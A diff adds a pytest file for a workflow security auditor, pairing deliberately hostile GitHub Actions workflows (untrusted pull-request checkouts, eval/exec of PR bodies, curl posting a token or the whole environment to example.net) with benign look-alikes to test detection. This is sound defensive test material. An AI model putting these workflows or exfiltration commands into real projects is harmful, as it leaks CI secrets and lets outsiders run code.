@@ -1,0 +1,107 @@
+"""Workflows that fetch what outsiders propose, run their text or send secrets away, however it is spelt; each beside one that does not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+
+from auditor.domain import CodeLocation, Evidence, Outcome
+from tests.auditing import asked
+from tests.repos import Drawing
+
+TRIGGER = "workflows.dangerous_trigger"
+INJECTED = "workflows.script_injection"
+SECRET = "workflows.secrets_exposed"
+SHA = "8ade135a41bc03ea155e62e844d188df1ea18608"
+START = "on: {trigger}\npermissions:\n  contents: write\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
+CHECKOUT = f"      - uses: actions/checkout@{SHA}\n        with:\n          ref: @\n      - run: make test\n"
+SCRIPT = f"      - uses: actions/github-script@{SHA}\n        env:\n          BODY: ${{{{ github.event.pull_request.body }}}}\n        with:\n          script: @\n"
+PYTHON = "      - shell: python\n        env:\n          BODY: ${{ github.event.pull_request.body }}\n        run: |\n          import os\n          @\n"
+RUN = "      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: @\n"
+
+
+class Case(NamedTuple):
+    """What is spelt how: the question, the trigger, the steps with `@` for a text, a hostile text and a benign one."""
+
+    name: str
+    probe: str
+    steps: str
+    hostile: str
+    benign: str
+    trigger: str = "pull_request_target"
+    at_least: float = 0.8
+
+
+CASES = [
+    Case("a commit in brackets", TRIGGER, CHECKOUT, "${{ github['event']['pull_request']['head']['sha'] }}", "${{ github['event']['pull_request']['base']['sha'] }}"),
+    Case("the commit of the merge", TRIGGER, CHECKOUT, "${{ github.event.pull_request.merge_commit_sha }}", "${{ github.sha }}"),
+    Case("a commit that is unpacked again", TRIGGER, CHECKOUT, "${{ fromJSON(toJSON(github.event.pull_request)).head.sha }}", "${{ fromJSON(toJSON(github.event.pull_request)).base.sha }}"),
+    Case("a commit of another run", TRIGGER, CHECKOUT, "${{ github.event.workflow_run.head_sha }}", "${{ github.event.repository.default_branch }}", "\n  workflow_run: {workflows: [CI]}"),
+    Case("a commit in a variable", TRIGGER, "      - run: echo\n        env:\n          REF: @\n" + CHECKOUT.replace("ref: @", "ref: ${{ env.REF }}"), "${{ github.event.pull_request.head.sha }}", "${{ github.event.pull_request.base.sha }}"),
+    Case("a commit in an output", TRIGGER, '      - id: r\n        run: echo "sha=@" >> "$GITHUB_OUTPUT"\n' + CHECKOUT.replace("ref: @", "ref: ${{ steps.r.outputs.sha }}"), "${{ github.event.pull_request.head.sha }}", "${{ github.event.pull_request.base.sha }}"),
+    Case("a branch that git fetches", TRIGGER, f"      - uses: actions/checkout@{SHA}\n      - run: git fetch origin @ && git checkout FETCH_HEAD && make\n", "pull/${{ github.event.number }}/head", "main"),
+    Case("a repository that git clones", TRIGGER, "      - env:\n          URL: @\n        run: git clone \"$URL\" x && make -C x\n", "${{ github.event.pull_request.head.repo.clone_url }}", "${{ github.event.pull_request.base.repo.clone_url }}"),
+    Case("a body that JavaScript evaluates", INJECTED, SCRIPT, "eval(process.env.BODY)", "console.log(process.env.BODY.length)"),
+    Case("a body in a command of JavaScript", INJECTED, SCRIPT, "require('child_process').execSync(`echo ${process.env.BODY}`)", "require('child_process').execFileSync('make', ['test'])"),
+    Case("a body under another name", INJECTED, SCRIPT, "|\n            const text = process.env.BODY\n            eval(text)", "|\n            const text = process.env.BODY\n            core.info(text)"),
+    Case("the payload in a command", INJECTED, SCRIPT, "require('child_process').execSync('echo ' + context.payload.pull_request.title)", "core.info(context.payload.pull_request.title)"),
+    Case("a body that Python runs", INJECTED, PYTHON, "exec(os.environ['BODY'])", "print(len(os.environ['BODY']))"),
+    Case("a body in a shell of Python", INJECTED, PYTHON, "os.system('echo ' + os.environ['BODY'])", "os.system('make test')"),
+    Case("an input that an action runs", INJECTED, f"      - uses: some/run@{SHA}\n        with:\n          command: @\n", "echo ${{ github.event.pull_request.title }}", "echo ${{ github.event.pull_request.number }}", at_least=0.7),
+    Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
+    Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
+]  # fmt: skip
+
+
+def path_of(number: int, kind: str) -> str:
+    """Where a workflow of a case is."""
+    return f".github/workflows/{kind}{number}.yml"
+
+
+def written(case: Case, text: str) -> str:
+    """The workflow of a case."""
+    steps = case.steps.replace("actions/checkout@", "actions/checkout\0").replace("github-script@", "github-script\0").replace("some/run@", "some/run\0")  # fmt: skip
+    return START.format(trigger=case.trigger) + steps.replace("@", text, 1).replace("\0", "@")
+
+
+@pytest.fixture(scope="module")
+def found(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], list[Evidence]]:
+    """What each question finds in each workflow of one repository with all cases."""
+    target: Path = tmp_path_factory.mktemp("shop")
+    drawing = Drawing(target)
+    base = drawing.commit({"README.md": "# Shop\n"})
+    drawing.commit(
+        {
+            path_of(number, kind): written(case, text)
+            for number, case in enumerate(CASES)
+            for kind, text in (("hostile", case.hostile), ("benign", case.benign))
+        }
+    )
+    seen: dict[tuple[str, str], list[Evidence]] = {}
+    for each in asked(target, base, TRIGGER, INJECTED, SECRET).evidence:
+        if each.outcome is Outcome.FOUND:
+            for path in {place.path for place in each.locations if isinstance(place, CodeLocation)}:
+                seen.setdefault((each.probe, path), []).append(each)
+    return seen
+
+
+def confidences(found: dict[tuple[str, str], list[Evidence]], probe: str, path: str) -> list[float]:
+    """How sure each finding of a question in a workflow is."""
+    return [each.confidence for each in found.get((probe, path), [])]
+
+
+@pytest.mark.parametrize("number", range(len(CASES)), ids=[each.name for each in CASES])
+def test_it_is_seen_however_it_is_spelt(number: int, found: dict[tuple[str, str], list[Evidence]]) -> None:
+    case = CASES[number]
+    assert max(confidences(found, case.probe, path_of(number, "hostile")), default=0) >= case.at_least
+
+
+@pytest.mark.parametrize("number", range(len(CASES)), ids=[each.name for each in CASES])
+def test_what_only_looks_like_it_is_less_sure_or_silent(
+    number: int, found: dict[tuple[str, str], list[Evidence]]
+) -> None:
+    case = CASES[number]
+    limit = 0.6 if case.probe == TRIGGER else 0.0
+    assert max(confidences(found, case.probe, path_of(number, "benign")), default=0.0) <= limit
